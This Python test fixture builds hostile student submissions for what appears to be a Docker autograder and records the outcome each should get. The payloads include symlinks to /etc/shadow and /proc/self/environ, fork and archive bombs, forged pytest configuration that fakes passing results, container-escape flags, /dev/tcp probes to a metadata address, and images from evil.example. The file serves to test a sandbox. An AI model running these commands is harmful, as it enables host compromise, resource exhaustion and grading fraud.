"""Submissions that try to cheat or to harm; what each must get is written beside it.

Each is about one exercise of ``course/``. They are handed in by as few students as will do (``lay_out``), one for each
exercise; ``honest`` has the ``solutions/``.
"""

from __future__ import annotations

import gzip
import io
import os
import shutil
import socket
import tarfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

__all__ = ["CORPUS", "MARK", "SECRET", "TIMES", "WORTH", "Hostile", "exercises", "lay_out", "places"]

SECRET = "b7c1e0 is what they are after\n"
MARK = "org.example.hostile"
MEGABYTE = 1 << 20
SOLUTIONS = Path(__file__).parent / "solutions"
Exercise = Literal["entry", "folder", "long", "web", "fetch", "slow"]
#: Points of one exercise of each kind, and how many of them there are.
WORTH: dict[Exercise, float] = {"entry": 4, "folder": 2, "long": 1, "web": 3, "fetch": 1, "slow": 1}
TIMES: dict[Exercise, int] = {"entry": 6, "folder": 4, "long": 1, "web": 1, "fetch": 1, "slow": 1}
Make = Callable[[Path, Path], None]


@dataclass(frozen=True, slots=True, kw_only=True)
class Hostile:
    """One submission of one exercise.

    Attributes:
        make: fills the exercise's folder; the second argument is a folder outside, of which nothing may change or
            be seen.
        points: that are its own, as what is wrong is wrong elsewhere.
        check: that it attacks, which fails; ``""`` if it gets what the honest one gets, as it harms nothing.
        said: a part of what it is told there.
    """

    make: Make
    exercise: Exercise = "entry"
    points: float = 0
    check: str = "builds"
    said: str = ""


# Dockerfiles and command lines -----------------------------------------------------------------------------------

BASE = "debian:stable-slim"
START = f"FROM {BASE}\nLABEL {MARK}=1\n"
END = 'ENTRYPOINT ["ls"]\nCMD ["--help"]\n'
GOOD = f"{START}RUN touch test\n{END}"
LIST = "docker build -t entry .\ndocker run --rm entry /test\n"
SAMPLE = "sh -c 'echo hello > /made/sample'"
MOUNT = '-v "$PWD/mounted:/made"'
SERVE = "docker build -t web .\ndocker run -d -p 8000:8000 web\n"


def files(**texts: str | bytes) -> Make:
    """Files of these names; ``_`` stands for a point, OUTSIDE for the folder that is not theirs."""

    def make(own: Path, outside: Path) -> None:
        for name, text in texts.items():
            data = text.replace("OUTSIDE", str(outside)).encode() if isinstance(text, str) else text
            (own / name.replace("_", ".")).write_bytes(data)

    return make


def dockerfile(text: str, run: str = LIST) -> Make:
    """This Dockerfile, and the right commands."""
    return files(Dockerfile=text, run_txt=run)


def step(command: str) -> Make:
    """One more RUN in a Dockerfile that is right otherwise."""
    return dockerfile(f"{START}RUN touch test\nRUN {command}\n{END}")


def ends_well(command: str) -> Hostile:
    """A step that tries something, and fails the build if it succeeds: the honest one's points, no more."""
    return Hostile(make=step(f'if {command}; then echo REA"C"HED; exit 1; fi; true'), points=4, check="")


def runs(arguments: str, *, command: str = SAMPLE, image: str = "folder") -> Make:
    """The exercise folder, right but for these arguments of its command."""
    commands = f"docker build -t folder .\ndocker run --rm -u 1000:1000 {arguments} {image} {command}\n"
    return dockerfile(f"{START}RUN mkdir /made\n", commands)


def served(program: str, *, run: str = SERVE) -> Make:
    """A web server of this Perl."""
    return files(Dockerfile=f'{START}COPY serve.pl /\nCMD ["perl", "/serve.pl"]\n', serve_pl=program, run_txt=run)


def answers(answer: str) -> str:
    """A server that says this, a Perl expression, to everybody."""
    return (
        "use IO::Socket::INET; $SIG{PIPE} = 'IGNORE';\n"
        "my $server = IO::Socket::INET->new(LocalPort => 8000, Listen => 9, ReuseAddr => 1) or die;\n"
        f"while (my $to = $server->accept) {{ $to->autoflush(1); {answer}; close $to }}\n"
    )


# Things that are no text -----------------------------------------------------------------------------------------


def link(to: str) -> Make:
    """A link to a place outside, to be copied into the image."""

    def make(own: Path, outside: Path) -> None:
        dockerfile(GOOD.replace("RUN touch test", "COPY secret /"))(own, outside)
        (own / "secret").symlink_to(to.replace("OUTSIDE", str(outside)))

    return make


def chain(own: Path, outside: Path) -> None:
    """A link to a link to a folder outside."""
    link("inner/two/secret")(own, outside)
    (own / "inner").mkdir()
    (own / "inner" / "two").symlink_to(outside)


def pipe(own: Path, outside: Path) -> None:
    """A pipe, on which a reader would wait for ever."""
    files(run_txt=LIST)(own, outside)
    os.mkfifo(own / "Dockerfile")


def a_socket(own: Path, outside: Path) -> None:
    """A socket in the context."""
    dockerfile(GOOD)(own, outside)
    at = Path.cwd()
    with socket.socket(socket.AF_UNIX) as made:
        try:
            os.chdir(own)  # its path has to be short
            made.bind("docker.sock")
        finally:
            os.chdir(at)


def named(*names: bytes) -> Make:
    """Files of these names beside a right Dockerfile."""

    def make(own: Path, outside: Path) -> None:
        dockerfile(GOOD.replace("RUN touch test", "COPY . /\nRUN touch test"))(own, outside)
        for name in names:
            Path(own, os.fsdecode(name)).touch()

    return make


def sparse(own: Path, outside: Path) -> None:
    """A terabyte that takes no room here."""
    dockerfile(GOOD)(own, outside)
    with (own / "huge").open("wb") as file:
        file.truncate(1 << 40)


def deep(own: Path, outside: Path) -> None:
    """Folders in folders."""
    dockerfile(GOOD)(own, outside)
    (own / "/".join("d" * 200)).mkdir(parents=True)


def many(own: Path, outside: Path) -> None:
    """More files than anybody wants."""
    dockerfile(GOOD)(own, outside)
    for number in range(400):
        (own / f"{number}").touch()


def configuration(own: Path, outside: Path) -> None:
    """Files that pytest, Python and docker would read, each of which would pass every check."""
    forged = (
        f"import pathlib\npathlib.Path({str(outside / 'imported')!r}).touch()\n"
        "def pytest_pyfunc_call(pyfuncitem): return True\n"
    )
    dockerfile("FROM debian:stable-slim\nRUN false\n")(own, outside)
    for place in (own, own.parent):
        for name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "test_forged.py", "pytest.py", "docker.py"):
            (place / name).write_text(forged)
        (place / "pytest.ini").write_text("[pytest]\naddopts = -p conftest --co\n")
        (place / "tox.ini").write_text("[pytest]\naddopts = --co\n")
        (place / "setup.cfg").write_text("[tool:pytest]\naddopts = --co\n")
        (place / "pyproject.toml").write_text("[tool.pytest.ini_options]\naddopts = '--co'\n")
        (place / "policy.toml").write_text('permits = ["privileged"]\n')
        (place / ".env").write_text("DOCKERLAB_RESULT=/dev/null\n")
        (place / "result.json").write_text('{"points": 99}\n')


def bomb(own: Path, outside: Path) -> None:
    """An archive of 100 KB that is 100 MB when ADD has unpacked it."""
    dockerfile(GOOD.replace("RUN touch test", "ADD bomb.tar.gz /bomb/"))(own, outside)
    with gzip.open(own / "bomb.tar.gz", "wb") as packed, tarfile.open(fileobj=packed, mode="w|") as archive:
        entry = tarfile.TarInfo("zeros")
        entry.size = 100 * MEGABYTE
        archive.addfile(entry, io.BytesIO(bytes(entry.size)))


def swapped(own: Path, outside: Path) -> None:
    """A subfolder that is a link when it is handed in."""
    runs('-v "$PWD/mounted/inner:/made"')(own, outside)
    (own / "mounted").mkdir()
    (own / "mounted" / "inner").symlink_to(outside)


# The corpus ------------------------------------------------------------------------------------------------------

FLOOD = r"printf '\033[2J\n::notice::points 7/7\n::stop-commands::x\n##[error]x\n\377\nPASSED 100/100\n'"
# fmt: off
CORPUS: dict[str, Hostile] = {
    # Files
    "link-out": Hostile(make=link("OUTSIDE/secret"), said="leads out of its folder"),
    "link-to-hosts": Hostile(make=link("/etc/hostname"), said="leads out of its folder"),
    "link-upwards": Hostile(make=link("../../../../../../etc/shadow"), said="leads out of its folder"),
    "link-to-a-link": Hostile(make=chain, said="leads out of its folder"),
    "link-to-proc": Hostile(make=link("/proc/self/environ"), said="leads out of its folder"),
    "pipe": Hostile(make=pipe, said="neither a file nor a folder (FIFO)"),
    "socket": Hostile(make=a_socket, said="neither a file nor a folder"),
    "line-break-in-a-name": Hostile(make=named(b"a\n::error::b"), said="can't be used"),
    "bytes-in-a-name": Hostile(make=named(b"\xff\xfe"), said="can't be used"),
    "names-like-options": Hostile(make=named(b"-rf", b"--privileged", b"-v", b"*", b"$(id)"), points=4, check=""),
    "sparse": Hostile(make=sparse, said="are allowed"),
    "deep": Hostile(make=deep, said="more than"),
    "many": Hostile(make=many, said="more than"),
    "configuration": Hostile(make=configuration, said="RUN false"),
    "archive-bomb": Hostile(make=bomb, said="would be unpacked by ADD"),
    "dockerfile-is-binary": Hostile(make=files(Dockerfile=b"FROM debian\0\xff\n", run_txt=LIST), said="not a text"),
    "dockerfile-without-end": Hostile(
        make=files(Dockerfile=GOOD + "# x\n" * 2_000_000, run_txt=LIST), said="are allowed"
    ),
    "commands-are-binary": Hostile(make=files(Dockerfile=GOOD, run_txt=b"\0" * 5000), said="not a text"),
    "commands-without-end": Hostile(
        make=files(Dockerfile=GOOD, run_txt=LIST + "docker run entry\n" * 100_000), said="are allowed"
    ),
    # What a Dockerfile asks of the builder
    "frontend": Hostile(make=dockerfile("# syntax=evil.example/frontend\n" + GOOD), said="evil.example/frontend"),
    "base": Hostile(make=dockerfile(GOOD.replace(BASE, "evil.example/solved")), said="evil.example/solved"),
    "base-of-another-student": Hostile(make=dockerfile(GOOD.replace(BASE, "entry")), said="entry is not"),
    "copy-from-an-image": Hostile(make=dockerfile(f"{START}COPY --from=web / /\n{END}"), said="web is fetched"),
    "mount-from-an-image": Hostile(make=step("--mount=from=registry.example/x,target=/x ls"), said="is fetched"),
    "cache-mount": Hostile(make=step("--mount=type=cache,id=all,target=/c ls /c"), said="--mount=type=cache"),
    "secret-mount": Hostile(make=step("--mount=type=secret,id=x cat /run/secrets/x"), said="--mount=type=secret"),
    "insecure": Hostile(make=step("--security=insecure mount -t proc p /mnt"), said="--security=insecure"),
    "host-network-in-a-step": Hostile(make=step("--network=host true"), said="--network=host"),
    "add-from-elsewhere": Hostile(make=dockerfile(f"{START}ADD http://127.0.0.1/x /x\n{END}"), said="ADD fetches"),
    "onbuild": Hostile(make=dockerfile(f"{GOOD}ONBUILD RUN true\n"), said="ONBUILD"),
    "label-of-the-grader": Hostile(make=dockerfile(f"{GOOD}LABEL org.dockerlab.run=other\n"), said="org.dockerlab.run"),
    "label-by-a-variable": Hostile(
        make=dockerfile(f"{START}ARG O=org.dockerlab\nRUN touch test\n{END}LABEL $O.shared=other\n"), said="the label"
    ),
    "health-flood": Hostile(make=dockerfile(f"{GOOD}HEALTHCHECK --interval=1ms CMD true\n"), said="check every 1ms"),
    "variables-without-end": Hostile(
        make=dockerfile(f"{START}ENV A=aaaaaaaaaa\n" + "ENV A=$A$A\n" * 45 + END), said="become more than"
    ),
    "layers": Hostile(make=dockerfile(START + "COPY run.txt /\n" * 50 + END), said="layers (40 are allowed)"),
    "instructions": Hostile(make=dockerfile(START + "RUN true\n" * 200 + END), said="instructions"),
    "volumes": Hostile(
        make=dockerfile(GOOD + "VOLUME " + " ".join(f"/v{n}" for n in range(200)) + "\n"), said="200 volumes"
    ),
    # What a build takes
    "fork-bomb-in-a-step": Hostile(make=step("b() { b | b & }; b; sleep 600"), said="processes at a time"),
    "memory-in-a-step": Hostile(
        make=step("""awk 'BEGIN { s = "x"; while (1) s = s s }'; sleep 600"""), said="96 MiB of memory"
    ),
    "disk-in-a-step": Hostile(
        make=step("dd if=/dev/zero of=/x bs=1M count=500; sleep 600"), said="wrote more than 64 MiB"
    ),
    "hole-in-a-step": Hostile(make=step("truncate -s 500G /x"), said="wrote more than 64 MiB"),
    "busy-loop-in-a-step": Hostile(
        exercise="slow", make=step("trap '' TERM INT; while :; do :; done"), said="took more than 6 s"
    ),
    "flood-in-a-step": Hostile(make=step(f"{FLOOD}; seq 300000; {FLOOD}; false"), said="exit code 1"),
    "flood-and-on": Hostile(make=step(f"{FLOOD}; seq 1000000; {FLOOD}"), points=4, check=""),
    # What a build finds out
    "grader-in-the-environment": ends_well("env | grep -iE 'dockerlab|pytest|nonce'"),
    "grader-on-the-disk": ends_well("cat /root/.cache/dockerlab/* OUTSIDE/* /run/docker.sock /run/dockerlab/* 2>&-"),
    "control-group": ends_well(
        "cd /sys/fs/cgroup && for f in pids.max pids/pids.max; do [ -e $f ] && echo max > $f; done 2>&-"
    ),
    "mounting": ends_well("mount -t tmpfs none /mnt 2>&-"),
    "devices-in-a-step": ends_well("(mknod /d b 254 0 && head -c 1 /d || mknod /e b 8 0 && head -c 1 /e) 2>&-"),
    # Command lines of a build
    "context-outside": Hostile(
        make=dockerfile(GOOD, LIST.replace(" .", " ../..")), points=2, check="lists", said="outside of your own folder"
    ),
    "dockerfile-outside": Hostile(
        make=dockerfile(GOOD, LIST.replace("entry .", "entry -f OUTSIDE/secret .")), points=2, check="lists",
        said="outside of your own folder",
    ),
    "builder-by-argument": Hostile(
        make=dockerfile(GOOD, LIST.replace("entry .", "entry --build-arg BUILDKIT_SYNTAX=evil/x .")),
        points=2, check="lists", said="BUILDKIT_SYNTAX",
    ),
    "another-ones-cache": Hostile(
        make=dockerfile(GOOD, LIST.replace("entry .", "entry --add-host dockerlab-fresh-0123.invalid:127.0.0.1 .")),
        points=2, check="lists", said="dockerlab-fresh-0123",
    ),
    "shell": Hostile(
        make=dockerfile(GOOD, LIST + "docker run entry $(touch OUTSIDE/a); touch OUTSIDE/b | cat > OUTSIDE/c\n"),
        points=2, check="lists", said="never given to a shell",
    ),
    # Command lines of a container
    **{
        name: Hostile(exercise="folder", make=runs(arguments), check="writes", said=said)
        for name, arguments, said in (
            ("privileged", f"{MOUNT} --privileged", "--privileged"),
            ("engine-socket", f"{MOUNT} -v /var/run/docker.sock:/s", "hands the engine itself"),
            ("mount-outside", "-v OUTSIDE:/made", "outside of your own folder"),
            ("mount-root", f"{MOUNT} --mount type=bind,src=/,dst=/host", "outside of your own folder"),
            ("mount-above", '-v "$HOME/../..:/made"', "outside of your own folder"),
            ("mount-tilde", "-v ~/../..:/made", "outside of your own folder"),
            ("mount-somebodys-home", "-v ~root:/made", "~root"),
            ("mount-over-proc", f"{MOUNT} --tmpfs /proc", "it would hide"),
            ("volume-of-the-host", f"{MOUNT} --mount type=volume,src=v,dst=/v,volume-opt=device=/", "volume"),
            ("host-network", f"{MOUNT} --network host", "is the network of the host"),
            ("host-processes", f"{MOUNT} --pid host", "shares the host's"),
            ("host-ipc", f"{MOUNT} --ipc=host", "shares the host's"),
            ("no-user-namespace", f"{MOUNT} --userns host", "shares the host's"),
            ("capability", f"{MOUNT} --cap-add SYS_ADMIN", "the capability SYS_ADMIN"),
            ("device", f"{MOUNT} --device /dev/mem", "a device of the host"),
            ("unconfined", f"{MOUNT} --security-opt seccomp=unconfined", "takes protection away"),
            ("others-volumes", f"{MOUNT} --volumes-from web", "uses another container"),
            ("others-network", f"{MOUNT} --network container:web", "uses another container"),
            ("control-group-parent", f"{MOUNT} --cgroup-parent /", "who limits the container"),
            ("never-out-of-memory", f"{MOUNT} --oom-kill-disable", "keeps the kernel from ending it"),
            ("more-memory", f"{MOUNT} -m 64g", "over the limit"),
            ("more-processes", f"{MOUNT} --pids-limit -1", "over the limit"),
            ("environment-of-the-host", f"{MOUNT} --env-file /etc/passwd", "/etc/passwd"),
            ("labels-of-the-grader", f"{MOUNT} --label org.dockerlab.owner=1", "org.dockerlab.owner"),
            ("another-runtime", f"{MOUNT} --runtime /bin/sh", "how the engine runs it"),
        )
    },
    "logs-to-elsewhere": Hostile(
        exercise="folder", points=2, check="",
        make=runs(f"{MOUNT} --log-driver syslog --log-opt syslog-address=udp://192.0.2.1"),
    ),
    "image-of-another-student": Hostile(
        exercise="folder", make=runs(MOUNT, image="entry"), check="writes", said="the image entry is not one"
    ),
    "folder-is-a-link": Hostile(
        exercise="folder", make=swapped, check="writes", said="leads out of its folder"
    ),
    "leaves-a-link": Hostile(
        exercise="folder", make=runs(MOUNT, command="ln -s /etc/hostname /made/sample"), check="writes",
        said="is missing",
    ),
    "leaves-a-pipe": Hostile(
        exercise="folder", make=runs(MOUNT, command="mkfifo /made/sample"), check="writes", said="is missing"
    ),
    "leaves-set-uid": Hostile(
        exercise="folder", points=2, check="",
        make=runs(MOUNT, command="sh -c 'cp /bin/sh /made/sh; chmod 4777 /made/sh; echo hello > /made/sample'"),
    ),
    "fills-the-folder": Hostile(
        exercise="folder", make=runs(MOUNT, command="sh -c 'dd if=/dev/zero of=/made/x bs=1M count=500; sleep 600'"),
        check="writes", said="wrote more than 64 MiB",
    ),
    "fills-the-disk": Hostile(
        exercise="folder", check="writes", said="wrote more than 64 MiB",
        make=runs(f"-u 0 {MOUNT}", command="sh -c 'dd if=/dev/zero of=/x bs=1M count=500; sleep 600'"),
    ),
    "many-files": Hostile(
        exercise="folder", check="writes", said="wrote more than 64 MiB",
        make=runs(f"-u 0 {MOUNT}", command="""perl -e 'for (1..40000) { open F, ">", "/tmp/$_" } sleep 600'"""),
    ),
    "fork-bomb": Hostile(
        exercise="long", make=runs(MOUNT, command="sh -c '(b() { b | b & }; b); exec sleep 600'"), check="ends",
        said="has not ended",
    ),
    "memory": Hostile(
        exercise="folder", make=runs(MOUNT, command="""awk 'BEGIN { s = "x"; while (1) s = s s }'"""),
        check="writes", said="137",
    ),
    "ignores-signals": Hostile(
        exercise="long", check="ends", said="has not ended",
        make=runs(f"--init {MOUNT}", command="""sh -c 'trap "" TERM INT HUP; while :; do sleep 1; done'"""),
    ),
    "endless": Hostile(
        exercise="long", make=runs(MOUNT, command="yes ::error::solved"), check="ends",
        said="has not ended",
    ),
    "says-it-has-passed": Hostile(
        exercise="folder", check="writes", said="is missing",
        make=runs(MOUNT, command="""sh -c 'echo "1 passed in 0.01s"; echo "{\\"points\\": 99}"; kill -9 $$; exit 0'"""),
    ),
    # What answers a check
    "answers-without-end": Hostile(
        exercise="web", points=1, check="answers", said="does not end",
        make=served(answers(r'print $to "HTTP/1.0 200 OK\r\n\r\n"; while (print $to "hell" x 60000) {}')),
    ),
    "answers-bit-by-bit": Hostile(
        exercise="web", points=1, check="answers", said="",
        make=served(answers(r'print $to "HTTP/1.0 200 OK\r\nX: "; while (print $to "x") { select $_, $_, $_, .2 }')),
    ),
    "answers-from-elsewhere": Hostile(
        exercise="web", points=1, check="answers", said="302",
        make=served(answers(r'print $to "HTTP/1.0 302 Found\r\nLocation: http://ELSEWHERE/hello\r\n\r\n"')),
    ),
    "answers-with-commands": Hostile(
        exercise="web", points=1, check="answers", said="",
        make=served(answers(r'print $to "HTTP/1.0 500 \e[2J\r\nX: y\r\n\r\n\n::error::\e[31m\xff\n::notice::3/3\n"')),
    ),
    "checks-its-health-all-the-time": Hostile(
        exercise="web", points=1, check="answers", said="health check every",
        make=served(answers("1"), run=SERVE.replace("-d", "-d --health-cmd true --health-interval 1ms")),
    ),
    "listens-for-another": Hostile(
        exercise="web", points=1, check="answers", said="is the network of the host",
        make=served(answers("1"), run=SERVE.replace("-d", "-d --network host")),
    ),
    "takes-the-graders-port": Hostile(
        exercise="web", points=1, check="answers", said="below 1024",
        make=served(answers("1"), run=SERVE.replace("8000:8000", "80:8000")),
    ),
    "reaches-out": Hostile(
        exercise="web", points=1, check="answers", said="REFUSED",
        make=served(
            "use IO::Socket::INET;\n$| = 1;\nfor my $to ('GATEWAY:ELSEPORT', '1.1.1.1:80', '169.254.169.254:80') {\n"
            "  print IO::Socket::INET->new(PeerAddr => $to, Timeout => 2) ? \"REACHED $to\\n\" : \"REFUSED $to\\n\" }\n"
        ),
    ),
    # What a build fetches
    "fetch-from-elsewhere": Hostile(
        exercise="fetch", said="403",
        make=dockerfile(
            'FROM debian:stable-slim\nSHELL ["/bin/bash", "-c"]\n'
            'RUN for ask in "GET http://ELSEWHERE/hello" "CONNECT ELSEWHERE" "CONNECT 1.1.1.1:443"; do '
            "exec 3<>/dev/tcp/PROXY; printf '%s HTTP/1.0\\r\\n\\r\\n' \"$ask\" >&3; read -r line <&3; "
            'echo "$line"; [[ $line == *200* ]] && echo REA\"C\"HED; done; false\n', ""),
    ),
    "fetch-without-the-proxy": Hostile(
        exercise="fetch", said="REFUSED",
        make=dockerfile(
            'FROM debian:stable-slim\nSHELL ["/bin/bash", "-c"]\nRUN for to in GATEWAY/ELSEPORT 1.1.1.1/80 1.1.1.1/53 '
            "169.254.169.254/80; do (exec 3<>/dev/tcp/$to) 2>&- && echo REA\"C\"HED $to || echo REFUSED $to; done; "
            "getent hosts example.com && echo REA\"C\"HED; false\n", ""),
    ),
}
# fmt: on


def exercises() -> tuple[tuple[str, Exercise], ...]:
    """All exercises of the course with their kinds."""
    return tuple((f"{kind}-{number}", kind) for kind, times in TIMES.items() for number in range(1, times + 1))


def places() -> dict[str, tuple[str, str]]:
    """Name of a submission → who hands it in, for which exercise."""
    found = {}
    for kind, times in TIMES.items():
        for at, name in enumerate(name for name, each in CORPUS.items() if each.exercise == kind):
            found[name] = (f"s{at // times + 1:02}", f"{kind}-{at % times + 1}")
    return found


def lay_out(handed: Path, outside: Path, words: dict[str, str]) -> None:
    """All of them, and ``honest``, in ``handed``; ``outside`` gets what they are after.

    Args:
        words: in their texts, and what they stand for.
    """
    (outside / "secret").write_text(SECRET)
    for name, (student, exercise) in places().items():
        own = handed / student / exercise
        own.mkdir(parents=True)
        CORPUS[name].make(own, outside)
        fill_in(own, words)
    for exercise, kind in exercises():
        if kind in ("slow", "long"):
            continue  # there is so little time that nobody's may be ready
        shutil.copytree(SOLUTIONS / kind, handed / "honest" / exercise)
        fill_in(handed / "honest" / exercise, words)


def fill_in(folder: Path, words: dict[str, str]) -> None:
    """Put in what is known only when the test runs."""
    for name in ("Dockerfile", "run.txt", "serve.pl", "policy.toml"):
        path = folder / name
        if path.is_file() and path.stat().st_size < 10_000:
            data = path.read_bytes()
            for word, meaning in words.items():
                data = data.replace(word.encode(), meaning.encode())
            path.write_bytes(data)
